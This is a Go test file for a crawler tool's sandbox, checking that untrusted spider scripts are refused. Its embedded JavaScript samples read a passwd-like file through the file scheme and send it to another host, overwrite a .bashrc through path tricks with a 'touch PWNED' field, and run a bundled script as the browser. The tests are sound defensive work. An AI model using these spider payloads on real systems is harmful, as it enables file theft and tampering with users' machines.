package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/jscrawl/jscrawl/types"
)

// The sandbox battery: a spider file shipped to an operator, run with the real binary in a
// working folder of its own, tries what issue 23 found it could. Each test checks that no
// file outside the working folder is read or written and no program started, and that the
// refusal (exit code 2) names the key and how the operator passes it.

// sandboxDirs returns a working folder and a folder outside it.
func sandboxDirs(t *testing.T) (work, outside string) {
	t.Helper()
	return t.TempDir(), t.TempDir()
}

// refused checks a sandbox refusal: exit code 2, the key named, the operator's way shown,
// nothing on stdout.
func refused(t *testing.T, what, key, stdout, stderr string, code int) {
	t.Helper()
	if code != 2 || !strings.Contains(stderr, key) || !strings.Contains(stderr, "-s "+key+"=VALUE") || stdout != "" {
		t.Errorf("%s: exit code %d, want 2 naming %s and -s %s=VALUE\nstdout %q\nstderr %s", what, code, key, key, stdout, stderr)
	}
}

// TestSandboxFileScheme: a spider that lists the file scheme itself and fetches
// /etc/passwd-like files, then sends them to another host, is refused before it starts:
// nothing is read, nothing reaches the other host.
func TestSandboxFileScheme(t *testing.T) {
	t.Parallel()
	work, outside := sandboxDirs(t)
	secret := writeFile(t, outside, "passwd", "root:x:0:0:sandbox-secret\n")
	var leaked atomic.Int32
	sink := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		leaked.Add(1)
	}))
	defer sink.Close()
	for _, tc := range []struct{ name, key, settings string }{
		{"DOWNLOAD_SCHEMES", types.DownloadSchemes, `{ DOWNLOAD_SCHEMES: ["http", "https", "file"] }`},
		{"DOWNLOAD_HANDLERS", types.DownloadHandlers, `{ DOWNLOAD_SCHEMES: ["http", "local"], DOWNLOAD_HANDLERS: { local: "FileDownloadHandler" } }`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			spider := writeFile(t, work, tc.name+".js", fmt.Sprintf(`export default class Exfil {
  name = "exfil";
  customSettings = %s;
  async *start() {
    const r = await fetch("file://%s");
    const text = await r.text();
    yield { data: text };
    await fetch(%q + "/?d=" + encodeURIComponent(text));
  }
}
`, tc.settings, secret, sink.URL))
			stdout, stderr, code := jscrawlIn(t, work, "", "run", spider, "-o", "-:jsonlines")
			refused(t, tc.name, tc.key, stdout, stderr, code)
			if strings.Contains(stdout+stderr, "sandbox-secret") {
				t.Errorf("the file's content reached the output:\n%s%s", stdout, stderr)
			}
		})
	}
	if n := leaked.Load(); n != 0 {
		t.Errorf("the other host got %d requests", n)
	}
}

// TestSandboxFeedOutside: a spider whose FEEDS name a file outside the working folder (a
// .bashrc by absolute path, ../, a symlinked folder) is refused, and the file keeps its
// content.
func TestSandboxFeedOutside(t *testing.T) {
	t.Parallel()
	work, outside := sandboxDirs(t)
	bashrc := writeFile(t, outside, ".bashrc", "# the operator's\n")
	if err := os.Symlink(outside, filepath.Join(work, "linked")); err != nil {
		t.Fatal(err)
	}
	rel, err := filepath.Rel(work, bashrc)
	if err != nil {
		t.Fatal(err)
	}
	for _, target := range []string{bashrc, "file://" + bashrc, rel, "linked/.bashrc"} {
		spider := writeFile(t, work, "feed.js", fmt.Sprintf(`export default class Feed {
  name = "feed";
  customSettings = { FEEDS: { %q: { format: "csv", overwrite: true, fields: ["touch PWNED #"] } } };
  *start() {}
}
`, target))
		stdout, stderr, code := jscrawlIn(t, work, "", "run", spider)
		refused(t, "FEEDS "+target, types.Feeds, stdout, stderr, code)
		if b, err := os.ReadFile(bashrc); err != nil || string(b) != "# the operator's\n" {
			t.Fatalf("FEEDS %s: .bashrc is now %q (%v)", target, b, err)
		}
	}
}

// TestSandboxBrowserExecutable: a spider that names a script shipped next to it as the
// browser is refused before any program starts.
func TestSandboxBrowserExecutable(t *testing.T) {
	t.Parallel()
	work, _ := sandboxDirs(t)
	marker := filepath.Join(work, "RAN")
	tool := writeFile(t, work, "tool.sh", "#!/bin/sh\ntouch "+marker+"\n")
	if err := os.Chmod(tool, 0o755); err != nil {
		t.Fatal(err)
	}
	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "<title>t</title>")
	}))
	defer page.Close()
	spider := writeFile(t, work, "browser.js", fmt.Sprintf(`import { Request } from "jscrawl";
export default class B {
  name = "b";
  customSettings = { BROWSER_EXECUTABLE: "./tool.sh", ROBOTSTXT_OBEY: false };
  *start() { yield new Request(%q, { browser: true }); }
  *parse(r) { yield { t: r.css("title::text").get() }; }
}
`, page.URL))
	stdout, stderr, code := jscrawlIn(t, work, "", "run", spider, "-o", "-:jsonlines")
	refused(t, "BROWSER_EXECUTABLE", types.BrowserExecutable, stdout, stderr, code)
	if _, err := os.Stat(marker); err == nil {
		t.Error("the spider's script ran")
	}
}

// TestSandboxSettingsTable is a table over the settings table: every setting a spider may
// not set freely, given in customSettings the way that reaches furthest (any value of an
// operator-only key, an absolute path outside the working folder, a loosened ceiling, the
// file scheme), is refused with exit code 2 before the crawl starts, and no path-valued
// setting creates anything outside. A new setting gets here through its Access in types.Defs, which
// TestEverySettingHasAccess keeps complete.
func TestSandboxSettingsTable(t *testing.T) {
	t.Parallel()
	work, outside := sandboxDirs(t)
	hostile := func(d types.Def) any {
		switch types.AccessOf(d.Key) {
		case types.SpiderPath:
			p := filepath.Join(outside, strings.ToLower(d.Key))
			if d.Kind == types.KindList {
				return []any{p}
			}
			return p
		case types.SpiderTightens:
			switch def := d.Default.(type) {
			case bool:
				return !def
			case int:
				if d.ZeroIsNoLimit {
					return 0
				}
				return int(loosened(d.Key, float64(def)))
			case float64:
				if d.ZeroIsNoLimit {
					return 0
				}
				return loosened(d.Key, def)
			}
		case types.SpiderChecked:
			return map[string]any{
				types.DownloadSchemes:  []any{"http", "file"},
				types.DownloadHandlers: map[string]any{"file": "FileDownloadHandler"},
				types.Feeds:            map[string]any{filepath.Join(outside, "feed.jsonl"): map[string]any{}},
			}[d.Key]
		}
		if d.Default == nil {
			return "x"
		}
		return d.Default
	}
	n := 0
	for _, d := range types.Defs {
		if types.AccessOf(d.Key) == types.SpiderSets {
			continue
		}
		n++
		t.Run(d.Key, func(t *testing.T) {
			t.Parallel()
			value, err := json.Marshal(hostile(d))
			if err != nil {
				t.Fatal(err)
			}
			dir := t.TempDir()
			spider := writeFile(t, dir, "s.js", fmt.Sprintf("export default class S {\n  name = \"s\";\n  customSettings = { %s: %s };\n  *start() {}\n}\n", d.Key, value))
			stdout, stderr, code := jscrawlIn(t, work, "", "run", spider)
			refused(t, fmt.Sprintf("%s: %s", d.Key, value), d.Key, stdout, stderr, code)
		})
	}
	if n < 20 {
		t.Errorf("only %d settings a spider may not set freely", n)
	}
	t.Cleanup(func() {
		if entries, _ := os.ReadDir(outside); len(entries) > 0 {
			t.Errorf("the spiders created %d entries outside the working folder, such as %s", len(entries), entries[0].Name())
		}
	})
}

// loosened returns a value of the ceiling key above its default def, within the key's
// range (so that it is refused as a loosened ceiling, not as out of range).
func loosened(key string, def float64) float64 {
	v := def*10 + 10
	if r, ok := types.RangeOf(key); ok && r.HasMax && v > r.Max {
		v = r.Max
	}
	return v
}

// TestSandboxTestsSettings: the settings of a spider's tests cases are the spider's too.
func TestSandboxTestsSettings(t *testing.T) {
	t.Parallel()
	work, outside := sandboxDirs(t)
	warc := filepath.Join(outside, "stolen.warc.gz")
	spider := writeFile(t, work, "t.js", fmt.Sprintf(`export default class T { name = "t"; *start() {} }
export const tests = [{ name: "case", settings: { LOG_FILE: %q } }];
`, warc))
	stdout, stderr, code := jscrawlIn(t, work, "", "test", spider)
	refused(t, "tests[].settings", types.LogFile, stdout, stderr, code)
	if !strings.Contains(stderr, `tests["case"].settings.LOG_FILE`) {
		t.Errorf("the refusal does not name the case: %s", stderr)
	}
	if _, err := os.Stat(warc); err == nil {
		t.Error("the case's file was written outside the working folder")
	}
}

// TestSandboxAllowsTheSpidersOwn: what stays the spider's keeps working: a feed under
// exports/ named with %(name)s, a log file, the data scheme, a tighter DOWNLOAD_MAXSIZE,
// and the operator's -s for an operator-only key.
func TestSandboxAllowsTheSpidersOwn(t *testing.T) {
	t.Parallel()
	work, _ := sandboxDirs(t)
	spider := writeFile(t, work, "own.js", `export default class Own {
  name = "own";
  customSettings = {
    FEEDS: { "exports/%(name)s.jsonl": { format: "jsonlines" } },
    LOG_FILE: "logs/crawl.log",
    DOWNLOAD_SCHEMES: ["http", "https", "data"],
    DOWNLOAD_MAXSIZE: 1 << 20,
    CONCURRENT_REQUESTS: 2,
  };
  async *start() {
    const r = await fetch("data:text/plain,hello");
    yield { said: await r.text(), user: this.crawler.settings.get("HTTP_USER") };
  }
}
`)
	if err := os.MkdirAll(filepath.Join(work, "logs"), 0o755); err != nil {
		t.Fatal(err)
	}
	_, stderr, code := jscrawlIn(t, work, "", "run", spider, "-s", "HTTP_USER=bob")
	if code != 0 {
		t.Fatalf("exit code %d\n%s", code, stderr)
	}
	b, err := os.ReadFile(filepath.Join(work, "exports", "own.jsonl"))
	if err != nil || strings.TrimSpace(string(b)) != `{"said":"hello","user":"bob"}` {
		t.Errorf("exports/own.jsonl: %q, %v", b, err)
	}
	if log, err := os.ReadFile(filepath.Join(work, "logs", "crawl.log")); err != nil || !strings.Contains(string(log), "Spider closed") {
		t.Errorf("logs/crawl.log: %v\n%s", err, log)
	}
}
